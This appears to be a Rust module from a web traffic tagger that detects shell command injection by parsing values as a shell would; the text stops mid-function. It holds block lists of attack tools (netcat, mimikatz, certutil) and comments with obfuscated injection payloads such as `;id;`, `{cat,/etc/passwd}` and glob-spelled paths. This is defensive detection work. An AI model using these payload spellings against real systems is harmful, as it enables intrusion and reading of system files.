//! A shell's reading of a value, for command injection.
//!
//! Lists of payload strings miss the next spelling of the same command, so this reads a value the
//! way a shell would after an injection point. Wherever a shell starts a new command (after `;`,
//! `|`, `&`, a line break (also written `\n`, as payloads for backends that unescape it are), at the
//! start of the text or of a parameter's value (there only with a command line's arguments), or
//! inside `` ` ``, `$(`, `<(`, `>(`), the next word is read as the shell reads it: quotes and
//! backslashes removed, empty expansions (`$@`, `$*`, `$1`, `${x}`, `$()`, an unset `$var`)
//! dropped, `$IFS` and tabs as blanks, a brace list (`{cat,/etc/passwd}`) opened. The word is then
//! judged: a program whose name is never an ordinary word (`whoami`, `wget`, `powershell`) is a
//! command; one whose name is also a word (`cat`, `ping`, `sleep`) is a command when what follows
//! is what only a command line has (an option, a path, a variable, a number, a redirection, another
//! separator or the end of the value); a glob spelling of a system path (`/b??/c?t`) stands for the
//! program it can only mean. The text is already normalised (decoded and lower-cased where the
//! tagger normalises), and matching ignores ASCII case anyway.

/// Programs whose names are never ordinary words (sorted: looked up by binary search).
const PROGRAMS: &[&str] = &[
    "adduser",
    "apt-get",
    "aria2c",
    "arping",
    "attrib",
    "auditpol",
    "awk",
    "base32",
    "base64",
    "basename",
    "bash",
    "bcdedit",
    "bitsadmin",
    "busybox",
    "bzcat",
    "bzip2",
    "cacls",
    "certreq",
    "certutil",
    "chattr",
    "chgrp",
    "chmod",
    "chown",
    "chpasswd",
    "chroot",
    "cksum",
    "cmd",
    "cmd.exe",
    "cmdkey",
    "cmstp",
    "crontab",
    "cscript",
    "csh",
    "curl",
    "dash",
    "deluser",
    "dirname",
    "diskpart",
    "dmesg",
    "doas",
    "dpkg",
    "driverquery",
    "dsquery",
    "egrep",
    "esentutl",
    "extrac32",
    "fgrep",
    "findstr",
    "forfiles",
    "fsutil",
    "fuser",
    "gawk",
    "gcc",
    "gdb",
    "getcap",
    "getconf",
    "getenforce",
    "getent",
    "getfacl",
    "getmac",
    "gpresult",
    "grep",
    "groupadd",
    "gunzip",
    "hexdump",
    "hostname",
    "hostnamectl",
    "htpasswd",
    "icacls",
    "iex",
    "ifconfig",
    "ifdown",
    "ifup",
    "insmod",
    "installutil",
    "iostat",
    "ip6tables",
    "ipconfig",
    "ipcs",
    "iptables",
    "irm",
    "iwr",
    "journalctl",
    "jrunscript",
    "killall",
    "klist",
    "ksh",
    "lastlog",
    "ldd",
    "logname",
    "ls",
    "lsattr",
    "lsb_release",
    "lsblk",
    "lscpu",
    "lsmod",
    "lsof",
    "lspci",
    "lsusb",
    "ltrace",
    "lua",
    "lwp-download",
    "lwp-request",
    "mailx",
    "makecab",
    "mawk",
    "md5sum",
    "mimikatz",
    "mkfifo",
    "mklink",
    "mknod",
    "mkpasswd",
    "mktemp",
    "modprobe",
    "msbuild",
    "mshta",
    "msiexec",
    "mysqldump",
    "nano",
    "nawk",
    "nbtstat",
    "nc",
    "ncat",
    "net1",
    "netcat",
    "netsh",
    "netstat",
    "nltest",
    "nodejs",
    "nohup",
    "nproc",
    "nsenter",
    "nslookup",
    "ntdsutil",
    "objdump",
    "odbcconf",
    "openssl",
    "pathping",
    "pcalua",
    "perl",
    "pgrep",
    "php",
    "php-cgi",
    "ping.exe",
    "ping6",
    "pkexec",
    "pkill",
    "powershell",
    "powershell.exe",
    "printenv",
    "psexec",
    "pstree",
    "pwd",
    "pwsh",
    "python",
    "python2",
    "python3",
    "quser",
    "qwinsta",
    "readelf",
    "readlink",
    "realpath",
    "reg",
    "regasm",
    "regsvcs",
    "regsvr32",
    "renice",
    "rlogin",
    "rlwrap",
    "rmmod",
    "robocopy",
    "rsync",
    "ruby",
    "runas",
    "rundll32",
    "runuser",
    "schtasks",
    "scp",
    "sed",
    "sendmail",
    "sestatus",
    "setcap",
    "setfacl",
    "setsid",
    "setspn",
    "sftp",
    "sh",
    "sha1sum",
    "sha256sum",
    "sha512sum",
    "shred",
    "sleep.exe",
    "socat",
    "sqlite3",
    "ssh",
    "ssh-keygen",
    "sshpass",
    "strace",
    "sudo",
    "sysctl",
    "systemctl",
    "systeminfo",
    "takeown",
    "taskkill",
    "tasklist",
    "tclsh",
    "tcpdump",
    "tcsh",
    "telnet",
    "tftp",
    "traceroute",
    "traceroute6",
    "tracert",
    "tshark",
    "tzutil",
    "ulimit",
    "umask",
    "umount",
    "unalias",
    "uname",
    "uncompress",
    "unshare",
    "uptime",
    "useradd",
    "userdel",
    "usermod",
    "usleep",
    "uudecode",
    "uuencode",
    "vim",
    "visudo",
    "vmstat",
    "vssadmin",
    "wbadmin",
    "wevtutil",
    "wget",
    "whereis",
    "whoami",
    "whois",
    "winrm",
    "winrs",
    "wmic",
    "wscript",
    "wusa",
    "xargs",
    "xcopy",
    "xterm",
    "xxd",
    "xzcat",
    "zcat",
    "zgrep",
    "zsh",
];

/// Programs whose names are also words, commands only with a command line's arguments (sorted).
const WORD_PROGRAMS: &[&str] = &[
    "alias",
    "apropos",
    "arch",
    "arp",
    "bc",
    "cal",
    "calc",
    "call",
    "cat",
    "cd",
    "chdir",
    "cls",
    "cmp",
    "comm",
    "copy",
    "cp",
    "cut",
    "date",
    "dc",
    "dd",
    "del",
    "df",
    "diff",
    "dig",
    "dir",
    "du",
    "echo",
    "env",
    "erase",
    "eval",
    "exec",
    "expect",
    "export",
    "expr",
    "factor",
    "fetch",
    "file",
    "find",
    "finger",
    "fold",
    "free",
    "ftp",
    "groups",
    "gzip",
    "head",
    "history",
    "host",
    "id",
    "ip",
    "java",
    "join",
    "kill",
    "last",
    "less",
    "ln",
    "locate",
    "logger",
    "mail",
    "make",
    "man",
    "md",
    "mkdir",
    "more",
    "mount",
    "move",
    "mv",
    "net",
    "nl",
    "nmap",
    "node",
    "notepad",
    "od",
    "passthru",
    "passwd",
    "paste",
    "ping",
    "print",
    "printf",
    "ps",
    "query",
    "rd",
    "read",
    "reboot",
    "ren",
    "rename",
    "rev",
    "rm",
    "rmdir",
    "route",
    "sc",
    "screen",
    "script",
    "seq",
    "service",
    "set",
    "sh.exe",
    "shuf",
    "shutdown",
    "sleep",
    "sort",
    "source",
    "split",
    "ss",
    "start",
    "stat",
    "strings",
    "su",
    "system",
    "tac",
    "tail",
    "tar",
    "tee",
    "test",
    "time",
    "timeout",
    "top",
    "touch",
    "tr",
    "tree",
    "tty",
    "type",
    "uniq",
    "unlink",
    "unset",
    "unzip",
    "users",
    "ver",
    "vi",
    "vol",
    "w",
    "wc",
    "whatis",
    "where",
    "which",
    "who",
    "whoami.exe",
    "yes",
    "zip",
];

/// Word programs that run the command that follows them (`time sh -c id`, `env X=1 id`).
const PREFIXES: &[&[u8]] = &[b"command", b"env", b"exec", b"nice", b"time", b"timeout"];

/// Word programs that print their arguments: what a probe runs to see its marker come back.
const PRINTERS: &[&[u8]] = &[b"echo", b"printf"];

/// Whether a printer at `end` prints one word that ends the command (`;echo vuln123`,
/// `|echo 12345;`, `$(echo x)`), where a statement starts: prose puts a word after "echo" too, but
/// not after a `;`, a `|`, a line break or a substitution's opening outside a user agent's token
/// list, and not as the whole of what follows.
fn prints_a_marker(text: &[u8], end: usize, opener: Opener) -> bool {
    if !matches!(
        opener,
        Opener::Statement | Opener::LineBreak | Opener::Paren
    ) {
        return false;
    }
    let i = skip_blanks(text, end);
    let n = text[i..]
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
        .count();
    let ends = text
        .get(i + n)
        .is_none_or(|c| b";|&`)\n\r\0'\"".contains(c));
    i > end && n > 0 && ends
}

/// Word programs whose first argument may be a plain number (`sleep 5`, `ping 10.0.0.1`).
const NUMBER_TAKERS: &[&[u8]] = &[b"sleep", b"ping", b"timeout", b"kill", b"expr"];

/// Whether `text` holds a command at a place where an injected shell command would start.
pub fn injected(text: &[u8]) -> bool {
    let mut word = Vec::with_capacity(MAX_WORD);
    let mut depth = 0usize;
    command_at(text, 0, Opener::Value, &mut word)
        || (0..text.len()).any(|i| {
            match text[i] {
                b'(' => depth += 1,
                b')' => depth = depth.saturating_sub(1),
                _ => {}
            }
            match command_start(text, i, depth == 0) {
                Some((start, opener)) => command_at(text, start, opener, &mut word),
                None => false,
            }
        })
}

/// Longest word read (longer ones are no program's name).
const MAX_WORD: usize = 64;

/// What started a command.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Opener {
    /// `;`, `|`, `&&`, `||` or a backtick inside parentheses, where a user agent's comment lists
    /// its tokens between semicolons (`(Linux; U; id)`).
    Separator,
    /// The same outside parentheses, where no user agent puts one: a `;` may end the command
    /// that follows (`;id;`).
    Statement,
    /// A line break, or `\n` written out: a `;` may end the command that follows (`\nid;`),
    /// which after a `;` would be a user agent's token list.
    LineBreak,
    /// A lone `&`: also what separates a query's parameters.
    Ampersand,
    /// `$(`, `<(` or `>(`: the command may end at `)`.
    Paren,
    /// The start of the text or the `=` that starts a parameter's value, passed whole to a shell
    /// by a vulnerable handler (`cmd=cat /etc/passwd`): a command there needs a command line's
    /// arguments, whatever its name (`q=python` is a search).
    Value,
}

/// Where a command would start if the shell broke the text at `i`, and what broke it; `outside`:
/// `i` is outside parentheses.
fn command_start(text: &[u8], i: usize, outside: bool) -> Option<(usize, Opener)> {
    let next = text.get(i + 1).copied();
    let separator = if outside {
        Opener::Statement
    } else {
        Opener::Separator
    };
    match text[i] {
        b';' | b'|' | b'`' => Some((i + 1, separator)),
        b'\n' | b'\r' => Some((i + 1, Opener::LineBreak)),
        b'\\' if matches!(next, Some(b'n' | b'r')) => Some((i + 2, Opener::LineBreak)),
        b'&' if next == Some(b'&') || (i > 0 && text[i - 1] == b'&') => Some((i + 1, separator)),
        // A parameter's name never starts with a blank.
        b'&' if matches!(next, Some(b' ' | b'\t')) => Some((i + 1, separator)),
        b'&' => Some((i + 1, Opener::Ampersand)),
        b'$' | b'<' | b'>' if next == Some(b'(') => Some((i + 2, Opener::Paren)),
        // A subshell or a PowerShell group where a command starts (`;(id)`, `|(cat /etc/passwd)`,
        // `;(New-Object Net.WebClient)`); a user agent opens its comment after a blank.
        b'(' if i > 0 && b";|&`\n\r".contains(&text[i - 1]) => Some((i + 1, Opener::Paren)),
        b'=' => Some((i + 1, Opener::Value)),
        _ => None,
    }
}

/// Whether a command is read at `start` (`word` is scratch space).
fn command_at(text: &[u8], start: usize, opener: Opener, word: &mut Vec<u8>) -> bool {
    if opener == Opener::Value && !blank_before_next_parameter(&text[start..]) {
        // Most values hold no blank: only a lone recon program can be a command there.
        return read_word(text, start, word).is_some_and(|end| bare_recon(text, start, end, word));
    }
    if opener != Opener::Value && runs_assigned_variables(text, start) {
        return true;
    }
    let Some(end) = read_word(text, start, word) else {
        return false;
    };
    if text.get(end) == Some(&b'=') {
        // `name=`: a parameter's name in a query; after a separator, an assignment that may
        // precede a command (`LD_DEBUG=help id`).
        return opener != Opener::Value
            && opener != Opener::Ampersand
            && command_after_assignment(text, end, opener, word);
    }
    if opener == Opener::Value && bare_recon(text, start, end, word) {
        return true;
    }
    word.make_ascii_lowercase();
    let name = program_name(word);
    let is = |list: &[&str]| listed(list, name);
    let numbers = NUMBER_TAKERS.contains(&name);
    if opener == Opener::Value {
        let program = sure_program(name) || is(WORD_PROGRAMS) || cmdlet(name).is_some();
        return program
            && (arguments_follow(text, end, numbers)
                || operand_follows(text, end, name)
                || program_follows(text, end, word));
    }
    if sure_program(name) || glob_of_system_path(word) || in_bin_directory(word, name) {
        return true;
    }
    if opener != Opener::Separator && opener != Opener::Ampersand && run_as_file(word, name) {
        return true;
    }
    let word_program = is(WORD_PROGRAMS) || cmdlet(name).is_some();
    let prefix = PREFIXES.contains(&name);
    let printer = PRINTERS.contains(&name);
    (word_program
        && (command_line_follows(text, end, opener, numbers)
            || brace_list(text, start, end)
            || operand_follows(text, end, name)))
        || (prefix && command_after_prefix(text, end, opener, word))
        || (printer && prints_a_marker(text, end, opener))
}

/// Programs that print what an attacker wants to know with no argument at all and whose names
/// are no word (sorted): a parameter's value that is only one of them (`cmd=whoami`) is the
/// command a vulnerable handler runs.
const RECON: &[&str] = &[
    "dmesg",
    "getmac",
    "ifconfig",
    "ipconfig",
    "logname",
    "lscpu",
    "lsmod",
    "netstat",
    "nproc",
    "printenv",
    "quser",
    "qwinsta",
    "systeminfo",
    "tasklist",
    "uname",
    "whoami",
];

/// What the same programs are in a header, with the recon programs whose names are also words
/// (sorted): a User-Agent or Referer is a product token or a URL, never a lone `id` or `ls`.
const HEADER_RECON: &[&str] = &[
    "arp", "dir", "env", "groups", "history", "hostname", "id", "ls", "ps", "pwd", "set", "uptime",
    "ver", "who",
];

/// Whether the value that starts at `start`, whose first word (read into `word`) ends at `end`,
/// is only a recon program's name, as a shell would read it (`whoami`, `w'h'oami`,
/// `whoami.exe`): at the start of the text (a header, read whole) any of [`RECON`] and
/// [`HEADER_RECON`], in a query parameter only the former.
fn bare_recon(text: &[u8], start: usize, end: usize, word: &mut [u8]) -> bool {
    // A word may end past the text (a `\` as its last byte).
    let rest = text.get(end..).unwrap_or_default();
    let ends = rest.trim_ascii().is_empty() || (start > 0 && rest.first() == Some(&b'&'));
    if !ends || word.contains(&b'/') {
        return false;
    }
    word.make_ascii_lowercase();
    let name = word.strip_suffix(b".exe").unwrap_or(&*word);
    listed(RECON, name) || (start == 0 && listed(HEADER_RECON, name))
}

/// Word programs whose first argument is a host name (`host evil.example`).
const HOST_TAKERS: &[&[u8]] = &[b"dig", b"host", b"ping", b"whois"];

/// Word programs and the operands that make them a command: the objects `ip` works on (`ip a`,
/// `ip route`), the subcommands of Windows' `net` (`net user`) and `route` (`route print`), the
/// BSD-style options of `ps` (`ps aux`).
const OPERANDS: &[(&[u8], &[&[u8]])] = &[
    (
        b"ip",
        &[
            b"a", b"addr", b"address", b"l", b"link", b"n", b"neigh", b"r", b"route",
        ],
    ),
    (
        b"net",
        &[
            b"accounts",
            b"config",
            b"group",
            b"localgroup",
            b"session",
            b"share",
            b"start",
            b"stop",
            b"use",
            b"user",
            b"view",
        ],
    ),
    (b"ps", &[b"aux", b"ax", b"auxf", b"auxww", b"ef", b"elf"]),
    (b"route", &[b"add", b"change", b"delete", b"print"]),
];

/// Whether the word after a word program at `end` is one the program takes and prose rarely
/// puts there: a dotted host name after a lookup program, one of the `OPERANDS` of a program.
fn operand_follows(text: &[u8], end: usize, name: &[u8]) -> bool {
    let i = end
        + text[end..]
            .iter()
            .take_while(|c| matches!(c, b' ' | b'\t'))
            .count();
    if i == end {
        return false;
    }
    let n = text[i..]
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-'))
        .count();
    let operand = &text[i..i + n];
    let ends = text
        .get(i + n)
        .is_none_or(|c| b" \t;|&\n\r`)'\"\0".contains(c));
    let dotted = operand.contains(&b'.')
        && operand.first().is_some_and(u8::is_ascii_alphanumeric)
        && operand.last().is_some_and(u8::is_ascii_alphabetic);
    ends && ((HOST_TAKERS.contains(&name) && dotted)
        || OPERANDS.iter().any(|(program, operands)| {
            *program == name && operands.iter().any(|o| operand.eq_ignore_ascii_case(o))
        }))
}

/// Whether the word at `start` is made of variables only (`$X`, `${a}${b}`), each of which the
/// text assigns before it at the start of a command (`X=id;$X`): the shell runs what they hold.
fn runs_assigned_variables(text: &[u8], start: usize) -> bool {
    let mut i = start
        + text[start..]
            .iter()
            .take_while(|c| matches!(c, b' ' | b'\t'))
            .count();
    let mut names = Vec::new();
    while text.get(i) == Some(&b'$') {
        let braced = text.get(i + 1) == Some(&b'{');
        let from = i + 1 + usize::from(braced);
        let n = text[from..]
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
            .count();
        if n == 0 || (braced && text.get(from + n) != Some(&b'}')) {
            return false;
        }
        names.push(&text[from..from + n]);
        i = from + n + usize::from(braced);
    }
    let ends = text
        .get(i)
        .is_none_or(|c| matches!(c, b' ' | b'\t' | b';' | b'|' | b'&' | b'\n' | b')' | b'`'));
    let assigned = |name: &[u8]| {
        text[..start].windows(name.len() + 2).any(|w| {
            matches!(
                w[0],
                b';' | b'|' | b'&' | b'\n' | b' ' | b'\t' | b'(' | b'`'
            ) && &w[1..=name.len()] == name
                && w[name.len() + 1] == b'='
        }) || (text[..start].starts_with(name) && text.get(name.len()) == Some(&b'='))
    };
    !names.is_empty() && ends && names.iter().all(|n| assigned(n))
}

/// Whether the value of an assignment whose `=` is at `eq` is followed, after a blank, by a
/// command.
fn command_after_assignment(text: &[u8], eq: usize, opener: Opener, word: &mut Vec<u8>) -> bool {
    let value_end = text[eq..]
        .iter()
        .position(|c| matches!(c, b' ' | b'\t' | b';' | b'|' | b'&' | b'\n'))
        .map_or(text.len(), |n| eq + n);
    text.get(value_end)
        .is_some_and(|c| matches!(c, b' ' | b'\t'))
        && command_word_at(text, value_end, opener, word)
}

/// Whether a prefix program whose name ends at `end` runs a command: its options and numbers
/// skipped, the next word is judged as a command of its own.
fn command_after_prefix(text: &[u8], end: usize, opener: Opener, word: &mut Vec<u8>) -> bool {
    let mut i = end;
    loop {
        let j = skip_blanks(text, i);
        if j == i && i > end {
            break;
        }
        let token = text[j..]
            .iter()
            .position(|c| matches!(c, b' ' | b'\t'))
            .map_or(text.len(), |n| j + n);
        if text.get(j) == Some(&b'-') || text[j..token].iter().all(u8::is_ascii_digit) {
            if token == j || token == text.len() {
                return false;
            }
            i = token;
            continue;
        }
        i = j;
        break;
    }
    i > end && command_word_at(text, i, opener, word)
}

/// [`command_at`] for a word that follows a prefix or an assignment (one level only: what follows
/// is judged without looking further).
fn command_word_at(text: &[u8], start: usize, opener: Opener, word: &mut Vec<u8>) -> bool {
    let Some(end) = read_word(text, start, word) else {
        return false;
    };
    word.make_ascii_lowercase();
    let name = program_name(word);
    sure_program(name)
        || (listed(WORD_PROGRAMS, name)
            && command_line_follows(text, end, opener, NUMBER_TAKERS.contains(&name)))
}

/// Whether the word that ends at `end` opened a brace list (`{echo,hello}`): shell syntax only.
fn brace_list(text: &[u8], start: usize, end: usize) -> bool {
    text.get(skip_blanks(text, start)) == Some(&b'{') && text.get(end) == Some(&b',')
}

/// Whether `name` is a program whatever follows it: one of [`PROGRAMS`], with or without a
/// Windows `.exe`.
fn sure_program(name: &[u8]) -> bool {
    listed(PROGRAMS, name)
        || versioned_interpreter(name)
        || name
            .strip_suffix(b".exe")
            .is_some_and(|n| listed(PROGRAMS, n))
        || cmdlet(name).is_some_and(|noun| noun >= 6)
}

/// Interpreters installed under a versioned name (`python3.11`, `php8.2`, `perl5.36`).
const INTERPRETERS: &[&[u8]] = &[b"lua", b"node", b"perl", b"php", b"pip", b"python", b"ruby"];

/// Whether `name` is an interpreter's name followed by its version (`python3.11`, `php7`).
fn versioned_interpreter(name: &[u8]) -> bool {
    let stem = name.len()
        - name
            .iter()
            .rev()
            .take_while(|c| c.is_ascii_digit() || **c == b'.')
            .count();
    stem < name.len()
        && name[stem].is_ascii_digit()
        && !name.ends_with(b".")
        && INTERPRETERS.contains(&&name[..stem])
}

/// PowerShell's approved verbs most used in cmdlet names (sorted: looked up by binary search).
const CMDLET_VERBS: &[&str] = &[
    "add",
    "clear",
    "compress",
    "convertfrom",
    "convertto",
    "copy",
    "disable",
    "enable",
    "expand",
    "export",
    "format",
    "get",
    "import",
    "install",
    "invoke",
    "measure",
    "move",
    "new",
    "out",
    "read",
    "register",
    "remove",
    "rename",
    "resolve",
    "restart",
    "select",
    "send",
    "set",
    "start",
    "stop",
    "test",
    "write",
];

/// The length of the noun when `name` is a PowerShell cmdlet: an approved verb, a hyphen and a
/// noun of letters (`get-content`, `new-object`). A long noun is a sure program; a short one
/// (`get-item`, also `get-well`) is a word program, a command only with a command line after it.
fn cmdlet(name: &[u8]) -> Option<usize> {
    let dash = name.iter().position(|&c| c == b'-')?;
    let noun = &name[dash + 1..];
    (noun.len() >= 4
        && noun.iter().all(u8::is_ascii_alphabetic)
        && listed(CMDLET_VERBS, &name[..dash]))
    .then_some(noun.len())
}

/// Whether `name` is in `list` (sorted).
fn listed(list: &[&str], name: &[u8]) -> bool {
    list.binary_search_by(|p| p.as_bytes().cmp(name)).is_ok()
}

/// Whether a `\n` or `\r` written out at `i` ends the word read so far (the payload's line
/// break) rather than escaping a letter inside it (`u\name`): it does when no letter follows or
/// the word already names a program.
fn written_line_break_ends(text: &[u8], i: usize, word: &[u8]) -> bool {
    matches!(text.get(i + 1), Some(b'n' | b'r'))
        && (!text.get(i + 2).is_some_and(u8::is_ascii_alphanumeric)
            || sure_program(word)
            || listed(WORD_PROGRAMS, word))
}

/// The word at `start` as a shell reads it (blanks before it skipped) into `word`, and where it
/// ends; `None` when there is none.
fn read_word(text: &[u8], start: usize, word: &mut Vec<u8>) -> Option<usize> {
    let mut i = skip_blanks(text, start);
    if text.get(i) == Some(&b'{') {
        i += 1;
    }
    word.clear();
    while i < text.len() && word.len() < MAX_WORD {
        match text[i] {
            // Quotes, and cmd.exe's escape `^`, are removed.
            b'\'' | b'"' | b'^' => i += 1,
            b'\\' if written_line_break_ends(text, i, word) => break,
            // After a drive (`c:\windows\system32\cmd.exe`) a backslash is cmd.exe's separator.
            b'\\' if word.len() >= 2 && word[0].is_ascii_alphabetic() && word[1] == b':' => {
                word.push(b'/');
                i += 1;
            }
            b'\\' => {
                if let Some(&c) = text.get(i + 1).filter(|c| c.is_ascii_alphanumeric()) {
                    word.push(c);
                }
                i += 2;
            }
            b'$' if text.get(i + 1) == Some(&b'\'') => i = ansi_c_quoted(text, i + 2, word),
            b'$' => match expansion(text, i) {
                Expansion::Empty(n) => i += n,
                Expansion::Shell(n) => {
                    word.extend_from_slice(b"sh");
                    i += n;
                }
                Expansion::Blank(_) | Expansion::Other => break,
            },
            c if c.is_ascii_alphanumeric() || b"./_-*?[]~:".contains(&c) => {
                word.push(c);
                i += 1;
            }
            _ => break,
        }
    }
    (!word.is_empty()).then_some(i)
}

/// Reads bash's ANSI-C quoting (`$'\x69\x64'`, `$'\151d'`) from `i`, just after `$'`, into
/// `word`: escapes are decoded, the letters, digits and path characters they give kept; returns
/// where the quote ends.
fn ansi_c_quoted(text: &[u8], mut i: usize, word: &mut Vec<u8>) -> usize {
    let digits = |from: usize, radix: u32, most: usize| -> (u32, usize) {
        let n = text[from..]
            .iter()
            .take(most)
            .take_while(|c| (**c as char).is_digit(radix))
            .count();
        let value = text[from..from + n].iter().fold(0, |v, c| {
            v * radix + (*c as char).to_digit(radix).unwrap_or(0)
        });
        (value, n)
    };
    while i < text.len() && text[i] != b'\'' && word.len() < MAX_WORD {
        let (c, len) = match (text[i], text.get(i + 1)) {
            (b'\\', Some(b'x')) => {
                let (v, n) = digits(i + 2, 16, 2);
                (v, 2 + n)
            }
            (b'\\', Some(b'u')) => {
                let (v, n) = digits(i + 2, 16, 4);
                (v, 2 + n)
            }
            (b'\\', Some(b'0'..=b'7')) => {
                let (v, n) = digits(i + 1, 8, 3);
                (v, 1 + n)
            }
            (b'\\', Some(&c)) => (u32::from(c), 2),
            (c, _) => (u32::from(c), 1),
        };
        if let Ok(c) = u8::try_from(c)
            && (c.is_ascii_alphanumeric() || b"./_-".contains(&c))
        {
            word.push(c);
        }
        i += len;
    }
    i + 1
}

/// What a `$` at `i` expands to, as far as reading a command goes, with its length in bytes.
enum Expansion {
    /// Nothing (`$@`, `$*`, `$1`, `$()`, `${...}`, an unset variable).
    Empty(usize),
    /// A blank (`$IFS`, `${IFS}`, `${IFS%??}`).
    Blank(usize),
    /// The running shell (`$0`, `$SHELL`, `$BASH`, `${SHELL}`).
    Shell(usize),
    /// Something else (a lone `$`).
    Other,
}

fn expansion(text: &[u8], i: usize) -> Expansion {
    let rest = &text[i + 1..];
    let lower = |n: usize| rest[..n.min(rest.len())].to_ascii_lowercase();
    match rest.first() {
        Some(b'0') => Expansion::Shell(2),
        Some(b'@' | b'*' | b'1'..=b'9') => Expansion::Empty(2),
        Some(b'(') if rest.get(1) == Some(&b')') => Expansion::Empty(3),
        Some(b'{') => match rest.iter().position(|&c| c == b'}') {
            Some(close) if lower(4) == b"{ifs" => Expansion::Blank(close + 2),
            Some(close) if matches!(&lower(close + 1)[..], b"{shell}" | b"{bash}") => {
                Expansion::Shell(close + 2)
            }
            Some(close) => Expansion::Empty(close + 2),
            None => Expansion::Other,
        },
        Some(c) if c.is_ascii_alphabetic() || *c == b'_' => {
            let n = rest
                .iter()
                .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                .count();
            if lower(n) == b"ifs" {
                Expansion::Blank(n + 1)
            } else if matches!(&lower(n)[..], b"shell" | b"bash") {
                Expansion::Shell(n + 1)
            } else {
                Expansion::Empty(n + 1)
            }
        }
        _ => Expansion::Other,
    }
}

/// `i` moved past blanks: spaces, tabs, `$IFS` in any spelling, and the empty expansions.
fn skip_blanks(text: &[u8], mut i: usize) -> usize {
    while i < text.len() {
        match text[i] {
            b' ' | b'\t' => i += 1,
            b'$' => match expansion(text, i) {
                Expansion::Blank(n) | Expansion::Empty(n) => i += n,
                Expansion::Shell(_) | Expansion::Other => break,
            },
            _ => break,
        }
    }
    i
}

/// The program a word names: the last component of a path.
fn program_name(word: &[u8]) -> &[u8] {
    match word.iter().rposition(|&c| c == b'/' || c == b'\\') {
        Some(slash) => &word[slash + 1..],
        None => word,
    }
}

/// Whether `word` runs a program by its path in a directory of programs: any program from an
/// absolute path that ends in `bin/` or `sbin/` (`/usr/bin/id`, `/opt/app/bin/run`), a listed one
/// from a system one written relative (`usr/bin/id`, `bin/sh`); no word of prose is written so.
fn in_bin_directory(word: &[u8], name: &[u8]) -> bool {
    let dir = &word[..word.len() - name.len()];
    let absolute = dir.first() == Some(&b'/')
        && (dir.ends_with(b"/bin/") || dir.ends_with(b"/sbin/"))
        && file_name(name);
    let relative = [
        &b"bin/"[..],
        b"sbin/",
        b"usr/bin/",
        b"usr/sbin/",
        b"usr/local/bin/",
    ]
    .contains(&dir)
        && (sure_program(name) || listed(WORD_PROGRAMS, name));
    absolute || relative
}

/// Scripts and executables a shell or cmd.exe runs by their file name (sorted).
const EXECUTABLE_EXTENSIONS: &[&str] = &["bat", "cmd", "exe", "pl", "ps1", "py", "rb", "sh", "vbs"];

/// Whether `word`, at the start of a command, runs a file: one named in the current directory
/// (`./exploit`), or a file whose extension is a script's or an executable's (`calc.exe`,
/// `x.ps1`, `/tmp/a.sh`). A user agent's token list (`(Windows; setup.exe)`) and a query's
/// parameters are not command starts for this rule.
fn run_as_file(word: &[u8], name: &[u8]) -> bool {
    let local = word.strip_prefix(b"./").is_some_and(file_name);
    let executable = name.iter().rposition(|&c| c == b'.').is_some_and(|dot| {
        file_name(&name[..dot]) && listed(EXECUTABLE_EXTENSIONS, &name[dot + 1..])
    });
    local || executable
}

/// Whether `s` is a plain file name: letters, digits, `.`, `_` and `-`, with a letter.
fn file_name(s: &[u8]) -> bool {
    s.iter()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-'))
        && s.iter().any(u8::is_ascii_alphabetic)
}

/// An absolute path of two or more components written with glob characters (`/b??/c?t`,
/// `/???/n?`): only a shell expanding it to a program would write one.
fn glob_of_system_path(word: &[u8]) -> bool {
    let parts: Vec<&[u8]> = word.split(|&c| c == b'/').collect();
    word.first() == Some(&b'/')
        && parts.len() >= 3
        && word.iter().any(|c| b"?*[".contains(c))
        && parts[1..].iter().all(|p| {
            !p.is_empty()
                && p.iter()
                    .all(|c| c.is_ascii_alphanumeric() || b"?*[]!".contains(c))
        })
}

/// Whether what follows a word at `end` is what a command line has: an option, a path, a
/// variable, a number, a quote, a redirection, a pipe, the `)` of a substitution, a comment, or
/// the end of the value (except after a lone `&`, where the end is also that of a query parameter
/// without a value). A `;` only where no user agent's comment can be (`; Touch;`, `; U; id)`).
fn command_line_follows(text: &[u8], end: usize, opener: Opener, numbers: bool) -> bool {
    let i = skip_blanks(text, end);
    let Some(&c) = text.get(i) else {
        return opener != Opener::Ampersand;
    };
    let blank = i > end;
    match c {
        // A NUL ends the string where a C library reads it.
        b'|' | b'`' | b'<' | b'>' | b'\n' | b'\r' | b'\0' => true,
        b'\\' if matches!(text.get(i + 1), Some(b'n' | b'r')) => true,
        b')' => opener == Opener::Paren,
        // `&&`, or a `&` that sends the command to the background and ends the text or a quote.
        b'&' => {
            matches!(
                text.get(i + 1),
                None | Some(b'&' | b'\'' | b'"' | b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|')
            ) || (opener != Opener::Ampersand && next_parameter(&text[i + 1..]))
        }
        b';' => matches!(opener, Opener::LineBreak | Opener::Statement),
        // A comment that cuts off the rest of the server's command line.
        b'#' => {
            blank
                && matches!(opener, Opener::LineBreak | Opener::Statement)
                && (matches!(text.get(i + 1), None | Some(b' ' | b'\t'))
                    || (text.get(i + 1) == Some(&b'&') && next_parameter(&text[i + 2..])))
        }
        b',' => matches!(
            text.get(i + 1),
            Some(b'/' | b'-' | b'$' | b'~' | b'0'..=b'9')
        ),
        b'-' | b'/' | b'~' | b'$' | b'\'' | b'"' | b'\\' => blank || c == b'$',
        b'.' => blank && matches!(text.get(i + 1), Some(b'/' | b'.')),
        // A redirection of a descriptor (`2>&1`, `1>/dev/null`).
        b'0'..=b'9' => blank && (numbers || redirects_descriptor(&text[i..])),
        // A cmd.exe variable (`echo %PATH%`).
        b'%' => blank && cmd_variable(&text[i..]),
        b'a'..=b'z' | b'A'..=b'Z' => {
            (blank
                && text.get(i + 1) == Some(&b':')
                && matches!(text.get(i + 2), Some(b'\\' | b'/')))
                || (blank && opener == Opener::Paren && plain_words_close(&text[i..]))
        }
        _ => false,
    }
}

/// Whether `rest` (after a `&`) is a query's next parameter, `name=`: the value before it ended
/// there, as a command line does at the end of the text.
fn next_parameter(rest: &[u8]) -> bool {
    let n = rest
        .iter()
        .take(64)
